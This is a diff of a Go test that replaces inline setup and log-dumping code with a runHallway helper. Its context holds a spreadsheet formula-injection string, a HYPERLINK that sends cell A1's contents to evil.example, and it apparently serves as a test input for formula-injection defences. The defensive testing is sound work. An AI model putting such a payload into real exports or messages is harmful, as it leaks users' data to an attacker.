@@ -90,22 +90,7 @@ goal = "3000 USD"
 			t.Fatal(err)
 		}
 	}
-	var logs bytes.Buffer
-	m, err := Open(ctx, cfg, newLogger(&logs, true), false)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer m.Close()
-	runCtx, stop := context.WithCancel(ctx)
-	done := make(chan error, 1)
-	go func() { done <- m.Run(runCtx) }()
-	defer func() {
-		stop()
-		<-done
-		if t.Failed() {
-			t.Logf("hallway's log:\n%s", logs.String())
-		}
-	}()
+	m, _ := runHallway(t, ctx, cfg)
 
 	// Over IRC, from a real services account.
 	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
